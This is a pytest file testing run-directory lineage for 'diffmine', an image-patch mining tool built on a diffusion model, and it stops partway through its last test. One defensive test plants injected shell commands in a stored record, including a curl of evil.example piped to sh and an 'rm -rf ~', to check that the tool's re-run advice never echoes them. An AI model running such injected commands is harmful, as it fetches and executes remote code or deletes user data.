"""The run directory's lineage: nothing lost, nothing stale, copies valid, data changes incremental.

Every test works on its own `cp -r` copy of one tiny run (a few training steps, K = 2): what is
asserted is what the run keeps or recomputes, not the quality of its maps.
"""

import dataclasses
import hashlib
import json
import os
import re
import shlex
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from diffmine import cli, lineage, pipeline
from diffmine.lineage import step_lock
from diffmine.query import query
from diffmine.rundir import Run, RunError, open_run
from diffmine.status import status
from diffmine.synthetic import SynthConfig, generate

TINY = ["--steps", "4", "--batch-size", "4", "--checkpoint-every", "2", "--samples", "2",
        "--typicality-shard-size", "4", "--top", "10", "--least", "2", "--random", "2", "--k", "2",
        "--feature-ensemble", "1"]


def run_args(data: Path, run: Path, *extra: str) -> list[str]:
    return ["run", "--data", str(data), "--run", str(run), "--resolution", "32", "--prompt", "A scene from {label}.",
            "--null-prompt", "A scene.", *TINY, *extra]


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    """(dataset folder, masks folder, a finished run) of 2 labels x 6 images of 32 px."""
    root = tmp_path_factory.mktemp("lineage")
    images = generate(root / "data", SynthConfig(labels=2, per_label=6, size=32, seed=0), progress=False)
    assert cli.main(run_args(images, root / "run")) == 0
    return images, root / "data" / "masks", root / "run"


def cp_r(source: Path, target: Path) -> Path:
    """A copy as a user makes it: new inodes and new modification times."""
    subprocess.run(["cp", "-r", str(source), str(target)], check=True)
    return target


def files(root: Path) -> dict[str, tuple[int, int]]:
    """Every file under ``root`` (locks aside): (inode, mtime_ns)."""
    out = {}
    for directory, _, names in os.walk(root):
        for name in names:
            path = Path(directory) / name
            if ".locks" not in path.parts and name != ".lineage.lock":
                st = path.stat()
                out[str(path.relative_to(root))] = (st.st_ino, st.st_mtime_ns)
    return out


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def maps(run: Run) -> dict[str, np.ndarray]:
    index = run.typicality_index()
    return {i: run.latent_typicality_map(i) for i in index.loc[index["status"] == "ok", "image_id"]}


def test_a_finished_run_run_again_rewrites_no_file(tiny, capsys):
    images, _, run = tiny
    before = files(run)
    assert cli.main(run_args(images, run)) == 0
    assert files(run) == before
    out = capsys.readouterr().out
    for step in ("train", "typicality", "mine", "cluster", "report"):
        assert f"{step}: up to date" in out


def test_run_again_without_steps_or_masks_keeps_the_model_and_the_reports_masks(tiny, tmp_path, capsys):
    """`run --run RUN` on a run `demo` made was refused (the model trained 800 steps, --steps' default
    asked 600), and its report was made again without the masks it was made with (`run` takes none)."""
    _, masks, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    assert cli.main(["report", "--run", str(copy), "--masks", str(masks)]) == 0
    before = files(copy)
    without_steps = [w for n, w in enumerate(TINY) if "--steps" not in TINY[max(0, n - 1):n + 1]]
    assert cli.main(["run", "--run", str(copy), *without_steps]) == 0
    out = capsys.readouterr().out
    assert files(copy) == before and "train: up to date (4 steps" in out and "report: up to date" in out
    assert "top1 hit" in out  # the evaluation against the report's masks, as demo prints it
    assert cli.main(["train", "--run", str(copy), "--batch-size", "4", "--checkpoint-every", "2"]) == 0
    assert files(copy) == before


def test_a_run_on_read_only_storage_answers_its_up_to_date_steps(tiny, tmp_path, monkeypatch, capsys):
    """A run this process cannot write (a received archive, a read-only share: its lock folder cannot
    be made, as on a read-only mount): run again, each step answers "up to date" (it stopped at
    `.locks: Permission denied`) and nothing is written."""
    import errno

    images, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    for lock in (copy / lineage.LOCK_DIR, copy / lineage.LINEAGE_LOCK):
        shutil.rmtree(lock) if lock.is_dir() else lock.unlink(missing_ok=True)
    mkdir = Path.mkdir

    def read_only(path, *args, **kwargs):
        if path.resolve().is_relative_to(copy.resolve()) and not path.exists():  # an existing one: as mkdir says
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
        return mkdir(path, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", read_only)
    before = files(copy)
    assert cli.main(run_args(images, copy)) == 0
    assert files(copy) == before and not (copy / lineage.LOCK_DIR).exists() and not (copy / lineage.LINEAGE_LOCK).exists()
    out = capsys.readouterr().out
    for step in ("train", "typicality", "mine", "cluster"):
        assert f"{step}: up to date" in out


def test_a_copied_run_is_valid_as_it_is(tiny, tmp_path):
    images, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    before = files(copy)
    assert cli.main(["typicality", "--run", str(copy), "--samples", "2", "--shard-size", "4"]) == 0
    assert cli.main(run_args(images, copy)) == 0
    assert files(copy) == before  # same inodes: no shard, model or table was rewritten
    opened = open_run(copy)
    assert len(opened.patches()) == len(open_run(run).patches())
    assert not any(opened.stale(name) for name in ("model", "typicality", "mine", "cluster", "report"))


def test_masks_and_boxes_are_identified_by_content_not_by_the_path_given(tiny, tmp_path, capsys):
    """report --masks and localize recorded the path they were given (localize: as typed, relative to
    where it ran) as their identity: a copied run with its masks copied along was another result, and
    localize computed everything again on every call, its flags changed or not."""
    _, masks, run = tiny
    first = cp_r(run, tmp_path / "first")
    boxes = tmp_path / "boxes.csv"
    boxes.write_text("image,label,x0,y0,x1,y1\nnorland/img_0000.png,norland,0,0,16,16\n")
    for command in (["report", "--masks", str(masks)], ["localize", "--masks", str(masks)], ["report", "--masks", str(masks)]):
        assert cli.main([*command, "--run", str(first)]) == 0
    capsys.readouterr()
    before = files(first)
    assert cli.main(["localize", "--run", str(first), "--masks", str(masks)]) == 0  # again: kept, and said so
    assert files(first) == before and "localize: up to date" in capsys.readouterr().err
    # with --json stdout is the document alone, --force's line included
    assert cli.main(["localize", "--run", str(first), "--masks", str(masks), "--json", "--force"]) == 0
    assert json.loads(capsys.readouterr().out)["splits"]
    # a copy with its masks beside it: the same results, the hints naming the copy's masks
    moved = tmp_path / "moved"
    moved.mkdir()
    copy, masks_copy = cp_r(first, moved / "run"), cp_r(masks, moved / "masks")
    assert cli.main(["report", "--run", str(copy), "--masks", str(masks_copy)]) == 0
    assert cli.main(["localize", "--run", str(copy), "--masks", str(masks_copy)]) == 0
    out = capsys.readouterr()
    assert "report: up to date" in out.out and "localize: up to date" in out.err
    records, copied = Run(first).lineage.records(), Run(copy).lineage.records()
    for name in ("report", "localize"):
        assert copied[name]["identity"] == records[name]["identity"]
        assert copied[name]["paths"] == {"masks": str(masks_copy.resolve())}
        assert lineage.rerun_command(name, copied[name], copied).endswith(f"--masks {masks_copy.resolve()}")
    # other content at the same path is another result; so are boxes in place of masks
    mask = next(p for p in sorted(masks_copy.rglob("*.png")))
    Image.fromarray(255 - np.asarray(Image.open(mask))).save(mask)
    assert cli.main(["localize", "--run", str(copy), "--masks", str(masks_copy)]) == 0
    assert Run(copy).lineage.get("localize")["identity"] != records["localize"]["identity"]
    assert cli.main(["localize", "--run", str(copy), "--boxes", str(boxes)]) == 0
    assert Run(copy).lineage.get("localize")["paths"] == {"boxes": str(boxes.resolve())}


def test_paths_a_run_records_do_not_depend_on_how_run_was_spelled(tiny, tmp_path, monkeypatch):
    """A run whose dataset lies inside it, opened as `--run copy`: its image paths (and so the
    problems it records and the report shows) were relative to where the command ran."""
    images, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    shutil.copytree(images, copy / "data")
    assert cli.main(["prepare", "--data", str(copy / "data"), "--run", str(copy), "--resolution", "32",
                     "--prompt", "A scene from {label}.", "--null-prompt", "A scene."]) == 0
    monkeypatch.chdir(tmp_path)
    opened = Run(Path("copy"))
    assert opened.dataset_root == (tmp_path / "copy" / "data").absolute()
    assert all(os.path.isabs(path) for path in opened.images()["path"])


def test_a_changed_training_flag_keeps_the_model(tiny, tmp_path, capsys):
    images, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    weights = sha(copy / "model" / "trainable.safetensors")
    argv = ["train", "--data", str(images), "--run", str(copy), "--resolution", "32", "--prompt",
            "A scene from {label}.", "--null-prompt", "A scene.", "--steps", "4", "--batch-size", "2"]
    assert cli.main(argv) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "batch_size: 4 -> 2" in err[0] and "--force" in err[0]
    assert sha(copy / "model" / "trainable.safetensors") == weights
    # --force replaces it, and everything made with the old model is then out of date
    assert cli.main(argv + ["--force"]) == 0
    assert sha(copy / "model" / "trainable.safetensors") != weights
    opened = open_run(copy)
    with pytest.raises(RunError, match="re-run `diffmine typicality"):
        opened.typicality_map(opened.images()["image_id"][0])
    with pytest.raises(RunError, match="typicality"):
        opened.patches()


def test_more_steps_continue_training_and_fewer_are_refused(tiny, tmp_path, capsys):
    images, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    base = ["train", "--data", str(images), "--run", str(copy), "--resolution", "32", "--prompt",
            "A scene from {label}.", "--null-prompt", "A scene.", "--batch-size", "4", "--checkpoint-every", "2"]
    assert cli.main(base + ["--steps", "2"]) == 2
    assert "--force" in capsys.readouterr().err
    assert cli.main(base + ["--steps", "6"]) == 0
    assert "(step 4)" in capsys.readouterr().out  # resumed from the last checkpoint, not from 0
    assert Run(copy).lineage.get("model")["steps"] == 6


def test_a_data_change_keeps_unchanged_maps_exactly(tiny, tmp_path, capsys):
    images, _, run = tiny
    data = cp_r(images, tmp_path / "data")
    copy = cp_r(run, tmp_path / "copy")
    old = maps(Run(copy))
    removed = sorted(data.glob("norland/*.png"))[0]
    removed.unlink()
    added = data / "sudland" / "added.png"
    Image.new("RGB", (32, 32), (200, 30, 30)).save(added)
    # a new model would be needed to train on it: refused, the model kept
    assert cli.main(run_args(data, copy)) == 2
    assert "listing changed" in capsys.readouterr().err
    assert cli.main(["typicality", "--run", str(copy), "--samples", "2", "--shard-size", "4"]) == 0
    opened = Run(copy)
    new = maps(opened)
    removed_id = f"norland/{removed.name}"
    assert removed_id in old and removed_id not in new
    assert "sudland/added.png" in new and "sudland/added.png" not in old
    for image_id in new.keys() - {"sudland/added.png"}:
        assert np.array_equal(new[image_id], old[image_id]), image_id
    assert opened.lineage.get("typicality")["complete"]
    with pytest.raises(RunError, match="re-run `diffmine mine"):
        opened.mined_patches()
    assert cli.main(["mine", "--run", str(copy), "--top", "10", "--least", "2", "--random", "2"]) == 0
    assert removed_id not in set(opened.mined_patches("top")["image_id"]) | set(opened.mined_patches("least")["image_id"])


def test_unreachable_images_are_retried(tiny, tmp_path, capsys):
    images, _, run = tiny
    data = cp_r(images, tmp_path / "data")
    copy = cp_r(run, tmp_path / "copy")
    old = maps(Run(copy))
    assert cli.main(["prepare", "--data", str(data), "--run", str(copy), "--resolution", "32", "--prompt",
                     "A scene from {label}.", "--null-prompt", "A scene."]) == 0
    # the same images at another path: the same listing, every result still valid
    assert not Run(copy).stale("cluster")
    shards = {p.name: p.stat().st_mtime_ns for p in (copy / "typicality").glob("shard-*")}
    capsys.readouterr()
    assert cli.main(["typicality", "--run", str(copy), "--samples", "2", "--shard-size", "4", "--force"]) == 0
    assert "up to date with these settings and inputs; --force replaces only" in capsys.readouterr().out
    assert {p.name: p.stat().st_mtime_ns for p in (copy / "typicality").glob("shard-*")} == shards  # kept
    data.rename(tmp_path / "away")  # the disk is unmounted...
    shutil.rmtree(copy / "typicality")
    Run(copy).lineage.drop("typicality")
    assert cli.main(["typicality", "--run", str(copy), "--samples", "2", "--shard-size", "4"]) == 0
    status = Run(copy).typicality_index()["status"]
    assert (status == "unreachable").all()
    assert "typicality: 12/12 images" in subprocess_status(copy) and "12 image(s) left out" in subprocess_status(copy)
    (tmp_path / "away").rename(data)  # ...and back
    assert cli.main(["typicality", "--run", str(copy), "--samples", "2", "--shard-size", "4"]) == 0
    again = maps(Run(copy))
    assert again.keys() == old.keys()
    assert all(np.array_equal(again[i], old[i]) for i in old)
    assert Run(copy).lineage.get("typicality")["complete"] and "left_out" not in Run(copy).lineage.get("typicality")


def listed_copy(tiny, tmp_path) -> tuple:
    """Copies of the tiny run's data and run (data, copy), and the commands that list the copied
    data into the copy and score it (prepare, typicality), for tests that edit or move an image."""
    images, _, run = tiny
    data, copy = cp_r(images, tmp_path / "data"), cp_r(run, tmp_path / "copy")
    prepare = ["prepare", "--data", str(data), "--run", str(copy), "--resolution", "32", "--prompt",
               "A scene from {label}.", "--null-prompt", "A scene."]
    return data, copy, prepare, ["typicality", "--run", str(copy), "--samples", "2", "--shard-size", "4"]


def test_one_image_that_cannot_be_read_never_stops_the_steps_after_typicality(tiny, tmp_path, capsys):
    """An image that cannot be read (gone, unmounted) or changed since listing is left out of
    typicality for now: mining goes on without it (before, the result stayed incomplete and every
    later step sent the user back to typicality, which could not help). Its record names the image,
    so each later call of typicality retries it; once it has its map, what was made without it is
    stale and made again with it."""
    data, copy, prepare, typicality = listed_copy(tiny, tmp_path)
    mine = ["mine", "--run", str(copy), "--top", "10", "--least", "2", "--random", "2"]
    assert cli.main(prepare) == 0
    first = Run(copy).images()["image_id"].iloc[0]
    gone = data / first
    gone.rename(tmp_path / "kept.png")
    shutil.rmtree(copy / "typicality")
    Run(copy).lineage.drop("typicality")
    capsys.readouterr()
    assert cli.main(typicality) == 0
    out = capsys.readouterr().out
    assert f"skipped {gone}: cannot read file" in out and "1 image left out for now" in out
    record = Run(copy).lineage.get("typicality")
    assert record["complete"] and record["left_out"] == 1
    assert cli.main(mine) == 0  # goes on without it
    assert first not in set(Run(copy).mined_patches("random")["image_id"])
    assert "images (1 without a map: see the bad images below)" in status(Run(copy))
    assert cli.main(typicality) == 0  # retried, still gone: nothing made from it turns stale
    assert Run(copy).lineage.get("typicality")["identity"] == record["identity"] and not Run(copy).stale("mine")
    (tmp_path / "kept.png").rename(gone)
    assert cli.main(typicality) == 0
    fixed = Run(copy).lineage.get("typicality")
    assert fixed["identity"] != record["identity"] and "left_out" not in fixed
    assert (Run(copy).typicality_index()["status"] == "ok").all()
    assert Run(copy).stale("mine")  # made without the image: made again
    assert cli.main(mine) == 0 and not Run(copy).stale("mine")


def test_an_image_edited_in_place_is_never_read_as_its_results_image(tiny, tmp_path, capsys):
    """Edited without a new listing, an image is no longer the one its map was made from: localize
    refuses it and typicality marks it bad, each naming the file; listed anew, it gets its map."""
    data, copy, prepare, typicality = listed_copy(tiny, tmp_path)
    assert cli.main(prepare) == 0
    edited, label = Run(copy).typicality_index()[["image_id", "label"]].iloc[0]
    Image.fromarray(np.zeros((32, 32, 3), np.uint8)).save(data / edited)  # same path, other bytes
    boxes = tmp_path / "boxes.csv"
    boxes.write_text(f"image,label,x0,y0,x1,y1\n{edited},{label},2,2,20,20\n")
    capsys.readouterr()
    assert cli.main(["localize", "--run", str(copy), "--boxes", str(boxes)]) == 2
    assert f"{data / edited}: changed since `diffmine prepare` listed it" in capsys.readouterr().err
    shutil.rmtree(copy / "typicality")
    Run(copy).lineage.drop("typicality")
    assert cli.main(typicality) == 0
    assert f"skipped {data / edited}: changed since `diffmine prepare` listed it" in capsys.readouterr().out
    index = Run(copy).typicality_index().set_index("image_id")
    assert index.loc[edited, "status"] == "unreachable" and (index.drop(edited)["status"] == "ok").all()
    assert Run(copy).lineage.get("typicality")["left_out"] == 1  # retried by the next call: it may be put back
    assert cli.main(prepare) == 0 and cli.main(typicality) == 0
    assert (Run(copy).typicality_index()["status"] == "ok").all()
    assert cli.main(["localize", "--run", str(copy), "--boxes", str(boxes)]) == 0


def test_an_image_put_back_as_listed_gets_its_map(tiny, tmp_path, capsys):
    """An image edited since listing and then restored (its listed bytes back, a new mtime) is
    retried and scored by the next typicality call: before, it stayed "bad" until --force."""
    data, copy, prepare, typicality = listed_copy(tiny, tmp_path)
    assert cli.main(prepare) == 0
    old = maps(Run(copy))
    edited = Run(copy).images()["image_id"].iloc[3]
    original = (data / edited).read_bytes()
    Image.fromarray(np.zeros((32, 32, 3), np.uint8)).save(data / edited)
    shutil.rmtree(copy / "typicality")
    Run(copy).lineage.drop("typicality")
    assert cli.main(typicality) == 0
    assert Run(copy).typicality_index().set_index("image_id").loc[edited, "status"] == "unreachable"
    (data / edited).write_bytes(original)
    assert cli.main(typicality) == 0
    again = maps(Run(copy))
    assert again.keys() == old.keys() and np.array_equal(again[edited], old[edited])


def subprocess_status(run: Path) -> str:
    from diffmine.status import status

    return status(Run(run))


def test_a_result_file_deleted_by_hand_is_made_again(tiny, tmp_path, capsys):
    """The record alone is not the result: mining, features and clusters whose files are gone are
    recomputed (deterministically: the same tables), not reported up to date and then unreadable;
    the model's weights are rebuilt from its last checkpoint, bit for bit, so nothing made from
    them goes stale."""
    images, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    opened = Run(copy)
    patches, clusters = opened.mined_patches(), opened.patches()
    weights = sha(copy / "model" / "trainable.safetensors")
    for path in (opened.patches_path, opened.features_path, opened.clusters_path, copy / "model" / "trainable.safetensors"):
        path.unlink()
    shown = status(Run(copy)).splitlines()
    assert any(line.startswith("train: its files") and "gone" in line for line in shown)
    assert any(line.startswith("mine: its file") and "gone" in line and "diffmine mine" in line for line in shown)
    assert cli.main(run_args(images, copy)) == 0
    out = capsys.readouterr().out
    assert not any(f"{step}: up to date" in out for step in ("train", "mine", "cluster"))
    assert sha(copy / "model" / "trainable.safetensors") == weights
    again = Run(copy)
    assert again.mined_patches().equals(patches) and again.patches().equals(clusters)
    assert not any(again.stale(name) for name in ("typicality", "mine", "cluster", "report"))


def test_stale_clusters_are_never_served(tiny, tmp_path):
    _, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    assert cli.main(["mine", "--run", str(copy), "--top", "6", "--least", "2", "--random", "2"]) == 0
    opened = Run(copy)
    with pytest.raises(RunError, match="re-run `diffmine cluster"):
        opened.patches()
    assert "patches" not in query(opened, "SELECT table_name FROM duckdb_tables() UNION ALL "
                                          "SELECT view_name FROM duckdb_views()")["table_name"].tolist()
    with pytest.raises(ValueError, match="patches"):
        query(opened, "SELECT count(*) FROM patches")
    assert len(query(opened, "SELECT * FROM mined WHERE kind = 'top'")) == 12
    assert opened.stale("report")  # made from the old mining
    assert cli.main(["report", "--run", str(copy)]) == 0  # the report leaves the stale clusters out
    assert opened.lineage.get("report")["inputs"].keys() == {"model", "mine"}


def test_a_result_made_by_an_older_method_is_remade_and_never_served(tiny, tmp_path, capsys, monkeypatch):
    """A step whose code changed what it makes (its method version raised) treats its old results
    as made with other settings: never served, remade when cheap, refused without --force when
    expensive. Records from before a step's first raise (no field) are version 1."""
    images, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    mine_before = Run(copy).lineage.get("mine")
    maps_before = {p.name: sha(p) for p in (copy / "typicality").glob("shard-*.safetensors")}
    monkeypatch.setitem(lineage.METHODS, "mine", 2)
    opened = Run(copy)
    assert ("mine was made by another version of its method (v1 -> v2)", "mine --top 10 --least 2 --random 2") \
        in opened.stale("mine")  # made again as it was made
    with pytest.raises(RunError, match="re-run `diffmine mine"):
        opened.patches()  # the clusters were made from the old mining
    assert cli.main(run_args(images, copy)) == 0
    assert "mine: up to date" not in capsys.readouterr().out
    again = Run(copy)
    mine_after = again.lineage.get("mine")
    assert mine_after["method"] == 2 and mine_after["settings"] == mine_before["settings"]
    assert mine_after["identity"] != mine_before["identity"]  # what was made from it goes stale
    assert not any(again.stale(name) for name in ("typicality", "mine", "cluster", "report"))
    assert {p.name: sha(p) for p in (copy / "typicality").glob("shard-*.safetensors")} == maps_before

    monkeypatch.setitem(lineage.METHODS, "typicality", 2)
    assert cli.main(run_args(images, copy)) == 2
    err = capsys.readouterr().err
    assert "method: v1 -> v2" in err and "--force" in err
    assert Run(copy).stale("typicality")[0][0] == "typicality was made by another version of its method (v1 -> v2)"
    assert {p.name: sha(p) for p in (copy / "typicality").glob("shard-*.safetensors")} == maps_before


def test_a_second_process_on_the_same_step_is_refused(tiny, tmp_path, capsys):
    _, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    with step_lock(copy, "typicality"):
        assert cli.main(["typicality", "--run", str(copy), "--samples", "3", "--force"]) == 2
    assert "another diffmine process is running typicality" in capsys.readouterr().err
    assert Run(copy).lineage.get("typicality")["settings"]["samples"] == 2  # untouched


def test_other_typicality_settings_need_force(tiny, tmp_path, capsys):
    _, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    shard = sorted((copy / "typicality").glob("shard-*.safetensors"))[0]
    assert cli.main(["typicality", "--run", str(copy), "--samples", "4"]) == 2
    err = capsys.readouterr().err
    assert "samples: 2 -> 4" in err and shard.is_file()
    assert err.index("give the settings it was made with") < err.index("--force")  # the way that loses nothing first
    assert f"(`diffmine typicality --samples 2 --run {copy}`)" in err  # those settings, as flags to paste
    # execution settings are no part of the result: a resume may change them
    assert cli.main(["typicality", "--run", str(copy), "--samples", "2", "--batch-size", "8"]) == 0


def test_a_new_label_needs_a_new_model(tiny, tmp_path, capsys):
    images, _, run = tiny
    data = cp_r(images, tmp_path / "data")
    copy = cp_r(run, tmp_path / "copy")
    shutil.copytree(data / "norland", data / "westland")
    assert cli.main(["prepare", "--data", str(data), "--run", str(copy), "--resolution", "32", "--prompt",
                     "A scene from {label}.", "--null-prompt", "A scene."]) == 2
    err = capsys.readouterr().err
    assert "labels" in err and "--force" in err
    assert len(Run(copy).images()) == 12


@pytest.mark.parametrize("change", [["--prompt", "A photo of {label}."], ["--resolution", "16"]])
def test_maps_of_other_prompts_or_size_are_never_served_after_a_forced_listing(tiny, tmp_path, capsys, change):
    """`prepare --force` with other prompts or another size: the maps were made of other prompts and
    pixels, but their only stale reason read "listing changed" (as for added images, whose maps are
    served): query, compare and the map readers served them."""
    images, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    flags = {"--resolution": "32", "--prompt": "A scene from {label}.", "--null-prompt": "A scene."}
    flags.update(dict(zip(change[::2], change[1::2])))
    assert cli.main(["prepare", "--data", str(images), "--run", str(copy), "--force",
                     *[word for pair in flags.items() for word in pair]]) == 0
    opened = Run(copy)
    reason = "the dataset's prompts or image size changed since typicality was made"
    assert any(line.startswith("typicality:") and f"out of date ({reason})" in line for line in status(opened).splitlines())
    with pytest.raises(RunError, match=re.escape(reason)):
        opened.typicality_map(opened.images()["image_id"][0])
    with pytest.raises(ValueError, match="typicality"):
        query(opened, "SELECT count(*) FROM typicality")
    assert reason in [r for r, _ in opened.stale("mine")]
    capsys.readouterr()
    assert cli.main(["compare", "--run", str(copy), "--run", str(run)]) == 2
    assert "hold the same typicality" not in capsys.readouterr().err
    # the listing put back as it was: the maps are its own again
    assert cli.main(["prepare", "--data", str(images), "--run", str(copy), "--resolution", "32", "--force",
                     "--prompt", "A scene from {label}.", "--null-prompt", "A scene."]) == 0
    assert not Run(copy).stale("mine")


def test_holdout_is_stratified_seeded_and_never_trained_on(tmp_path, capsys):
    images = generate(tmp_path / "data", SynthConfig(labels=2, per_label=8, size=32, seed=1), progress=False)
    run = Run(tmp_path / "run")
    pipeline.prepare(run, images, "A scene from {label}.", "A scene.", 32, holdout=0.25, seed=3)
    listing = run.images()
    assert (listing.groupby("label")["split"].apply(lambda s: (s == "holdout").sum()) == 2).all()
    again = Run(tmp_path / "again")
    pipeline.prepare(again, images, "A scene from {label}.", "A scene.", 32, holdout=0.25, seed=3)
    assert again.images()["split"].tolist() == listing["split"].tolist()
    # held-out files made unreadable after listing: training must not even open them
    for path in listing.loc[listing["split"] == "holdout", "path"]:
        Path(path).write_bytes(b"not an image")
    argv = ["train", "--data", str(images), "--run", str(run.path), "--resolution", "32", "--prompt",
            "A scene from {label}.", "--null-prompt", "A scene.", "--holdout", "0.25", "--seed", "3",
            "--steps", "2", "--batch-size", "8"]
    assert cli.main(argv) == 0
    problems = run.problems()
    assert not (problems["step"] == "train").any()
    assert (run.training_images()["split"] == "train").all() and len(run.training_images()) == 12


def test_a_label_no_list_flag_can_name_is_said_when_listed(tmp_path, capsys):
    """`trends --order` and `translate --to` cut at commas and trim: a label " pad" or "a,b" was
    listed without a word, and no command could name it there."""
    for label in ("a,b", " pad", "plain"):
        (tmp_path / "data" / label).mkdir(parents=True)
        Image.new("RGB", (8, 8)).save(tmp_path / "data" / label / "0.png")
    pipeline.prepare(Run(tmp_path / "run"), tmp_path / "data", "A {label}.", "A thing.", 8)
    out = capsys.readouterr().out
    assert "label 'a,b' holds a comma" in out and "label ' pad' holds a comma or spaces" in out and "'plain'" not in out


def test_holdout_never_takes_every_image_of_a_label():
    """A label of one image at --holdout 0.9 was wholly held out: trained on nothing, without a word."""
    ids = ["a/0", "b/0", "b/1", "b/2", "b/3", "c/0", "c/1"]
    split = pipeline.holdout_split(ids, [i[0] for i in ids], 0.9, seed=0)
    kept = {label: [s for i, s in zip(ids, split) if i[0] == label].count("train") for label in "abc"}
    assert kept == {"a": 1, "b": 1, "c": 1}
    assert pipeline.holdout_split(ids, [i[0] for i in ids], 0.5, seed=0).count("holdout") == 0 + 2 + 1


def test_a_label_whose_every_training_image_is_unreadable_is_said(tmp_path, capsys):
    """Its prompt was trained on nothing: its typicality says nothing of its images."""
    images = generate(tmp_path / "data", SynthConfig(labels=2, per_label=2, size=32, seed=0), progress=False)
    run = tmp_path / "run"
    argv = ["train", "--data", str(images), "--run", str(run), "--resolution", "32", "--steps", "2", "--batch-size", "4"]
    assert cli.main(["prepare", *[w for w in argv[1:] if w not in ("--steps", "2", "--batch-size", "4")]]) == 0
    label = Run(run).labels[1]
    for path in sorted((images / label).iterdir()):
        path.write_bytes(b"not an image")
    capsys.readouterr()
    assert cli.main(argv) == 0
    assert f"train: every training image of {label!r} was left out" in capsys.readouterr().err


def test_evaluations_report_the_holdout_split(tmp_path, capsys):
    images = generate(tmp_path / "data", SynthConfig(labels=2, per_label=6, size=32, seed=0), progress=False)
    run = tmp_path / "run"
    assert cli.main(run_args(images, run, "--holdout", "0.34")) == 0
    capsys.readouterr()
    assert cli.main(["classify", "--run", str(run), "--samples", "2", "--per-label", "2", "--json"]) == 0
    out = capsys.readouterr().out
    summary = json.loads(out[out.index("{"):])
    assert summary["split"] == "holdout" and set(summary["splits"]) == {"holdout", "train"}
    assert summary["splits"]["holdout"]["images"] == 4
    assert cli.main(["evaluate", "--run", str(run), "--masks", str(tmp_path / "data" / "masks"), "--json"]) == 0
    out = capsys.readouterr().out
    result = json.loads(out[out.index("{"):])
    assert result["split"] == "holdout" and result["splits"]["holdout"]["overall"]["images"] == 4
    assert result["splits"]["train"]["overall"]["images"] == 8
    # listed again with more held out, the model unchanged: the 4 new "held-out" images were trained
    # on, and were counted as held out by classify and evaluate (not by localize)
    assert cli.main(["prepare", "--data", str(images), "--run", str(run), "--resolution", "32", "--prompt",
                     "A scene from {label}.", "--null-prompt", "A scene.", "--holdout", "0.67"]) == 0
    assert (Run(run).images()["split"] == "holdout").sum() == 8
    assert cli.main(["typicality", "--run", str(run), "--samples", "2", "--shard-size", "4"]) == 0
    capsys.readouterr()
    assert cli.main(["classify", "--run", str(run), "--samples", "2", "--per-label", "6", "--json"]) == 0
    out = capsys.readouterr().out
    assert json.loads(out[out.index("{"):])["splits"]["holdout"]["images"] == 4
    for command in (["evaluate", "--json"], ["localize", "--json"]):
        assert cli.main([*command, "--run", str(run), "--masks", str(tmp_path / "data" / "masks")]) == 0
        out = capsys.readouterr().out
        assert json.loads(out[out.index("{"):])["splits"]["holdout"]["overall"]["images"] == 4, command


def test_bad_settings_are_refused_in_one_line(tiny, tmp_path, capsys):
    images, _, _ = tiny
    base = ["prepare", "--data", str(images), "--run", str(tmp_path / "run")]
    for extra, words in ((["--prompt", "A {label} in {year}"], "no other"), (["--prompt", "A scene."], "{label}"),
                         (["--resolution", "0"], "resolution"), (["--holdout", "1.5"], "holdout")):
        assert cli.main(base + extra) == 2
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and words in err[0], err
    assert cli.main(["typicality", "--run", str(tmp_path / "run"), "--map-dtype", "int8"]) == 2
    assert "map_dtype" in capsys.readouterr().err
    assert cli.main(["mine", "--run", str(tmp_path / "run"), "--top", "0"]) == 2


def test_rerun_advice_never_echoes_an_edited_command():
    """A received run's lineage.json is editable text: the "re-run" advice names the step's own
    command, and a contrast's stored labels only re-quoted, so pasting it runs nothing else."""
    planted = {"command": "cluster --run . ; curl -s http://evil.example/x | sh #"}
    assert lineage.rerun_command("cluster", planted) == "cluster"
    assert lineage.rerun_command("features", planted) == "cluster"
    name = lineage.contrast_name("a b", "c")
    assert lineage.rerun_command(name, {"command": "contrast 'a b' c"}) == "contrast 'a b' c"
    # the words stay arguments of `diffmine contrast` (which refuses them), never a second command
    assert lineage.rerun_command(name, {"command": "contrast a; rm -rf ~"}) == "contrast 'a;' rm -rf '~'"
    assert lineage.rerun_command(name, {"command": "typicality ; sh"}) == "contrast"
    assert lineage.rerun_command(name, {"command": "contrast 'unclosed"}) == "contrast"


def printed_command(text: str, step: str) -> str:
    """The command in backquotes on ``status``'s line of ``step``."""
    line = next(line for line in text.splitlines() if line.startswith(f"{step}:"))
    return line.split("`")[1]


def test_a_stale_result_made_again_as_status_says_keeps_its_flags(tiny, tmp_path, capsys):
    """`status` names the command that makes each stale result again as it was made: pasted, the
    expensive typicality is not refused, and mine and cluster keep their flags (the tiny run's
    --samples 2, --top 10, --k 2, --feature-ensemble 1 ...), not the defaults."""
    images, _, run = tiny
    copy = cp_r(run, tmp_path / "copy")
    made = {name: Run(copy).lineage.get(name)["settings"] for name in ("typicality", "mine", "features", "cluster")}
    assert cli.main(["train", "--data", str(images), "--run", str(copy), "--resolution", "32", "--prompt",
                     "A scene from {label}.", "--null-prompt", "A scene.", "--steps", "6", "--batch-size", "4",
                     "--checkpoint-every", "2"]) == 0  # a new model: every result made with it is stale
    for step in ("typicality", "mine", "cluster"):
        command = printed_command(status(Run(copy)), step)
        words = shlex.split(command)
        assert words[:2] == ["diffmine", step] and "--force" not in words, command
        capsys.readouterr()
        assert cli.main(words[1:]) == 0, capsys.readouterr().err
    for name, settings in made.items():
